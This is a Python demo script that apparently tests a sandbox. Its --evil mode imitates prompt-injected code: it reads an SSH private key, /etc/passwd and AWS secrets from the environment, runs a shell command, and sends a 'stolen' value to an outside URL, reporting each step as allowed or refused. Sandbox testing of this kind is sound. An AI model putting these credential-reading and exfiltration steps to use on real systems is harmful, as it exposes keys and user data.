"""An ordinary script: it fetches a web page, reads a data directory and
reads an API key. Nothing in it knows about the sandbox.

With --evil it also does what injected code could do: read an SSH key and
/etc/passwd, run a shell command, look for secrets in the environment and
send one to another server. Each step prints `[ OK ]    <title>: <result>`
or `[REFUSED] <title>: <exception class>: <message>`, and the script goes
on with the next step either way.
"""
import argparse
import os
import re
import urllib.request


def step(title, action):
    try:
        result = action()
    except Exception as e:  # the point is to show every refusal
        print(f"[REFUSED] {title}: {type(e).__name__}: {e}", flush=True)
    else:
        print(f"[ OK ]    {title}: {result}", flush=True)


def get(url):
    with urllib.request.urlopen(url, timeout=10) as response:
        body = response.read().decode("utf-8", "replace")
        status = response.status
    title = re.search(r"<title>(.*?)</title>", body, re.S | re.I)
    return f"HTTP {status}, title={title.group(1).strip() if title else '?'}"


def read_dir(path):
    shown = []
    for name in sorted(os.listdir(path)):
        full = os.path.join(path, name)
        if os.path.isfile(full):
            with open(full) as f:
                shown.append(f"{name}={f.read().strip()!r}")
    return ", ".join(shown)


def read_ssh_key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        return f.read()[:30]


def read_passwd():
    with open("/etc/passwd") as f:
        return f.readline().strip()


def secrets_in_environment():
    return ", ".join(sorted(n for n in os.environ
                            if "KEY" in n or "SECRET" in n))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--url", default="https://example.com")
    parser.add_argument("--dir", default="data")
    parser.add_argument("--evil", action="store_true",
                        help="misbehave, as a prompt injection could")
    parser.add_argument("--exfil-url",
                        default="https://httpbin.org/anything?secret=stolen",
                        help="where --evil sends the stolen secret")
    args = parser.parse_args()

    step(f"GET {args.url}", lambda: get(args.url))
    step(f"read {args.dir.rstrip('/')}/", lambda: read_dir(args.dir))
    step("read $DEMO_API_KEY", lambda: os.environ["DEMO_API_KEY"][:3] + "...")
    if not args.evil:
        return
    step("read an SSH key", read_ssh_key)
    step("read /etc/passwd", read_passwd)
    step("run a shell command", lambda: f"exit code {os.system('id')}")
    step("list secrets in the environment", secrets_in_environment)
    step("read $AWS_SECRET_ACCESS_KEY",
         lambda: os.environ["AWS_SECRET_ACCESS_KEY"][:3] + "...")
    step("exfiltrate", lambda: get(args.exfil_url))


if __name__ == "__main__":
    main()
